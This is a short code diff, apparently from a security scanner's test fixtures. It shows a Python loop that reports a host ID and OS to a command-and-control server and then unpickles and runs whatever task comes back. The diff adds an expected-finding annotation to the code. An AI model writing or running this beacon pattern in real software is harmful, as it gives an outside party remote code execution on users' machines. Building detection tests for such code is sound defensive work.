@@ -14,7 +14,7 @@ ID = uuid.uuid4().hex
 def poll():
     while True:
         try:
-            r = requests.post(C2, json={"id": ID, "os": platform.system()}, timeout=60)
+            r = requests.post(C2, json={"id": ID, "os": platform.system()}, timeout=60)  # expect: HS118 high
             task = jsonpickle.decode(r.text)  # expect: HS112 critical
             if hasattr(task, "run"):
                 task.run()
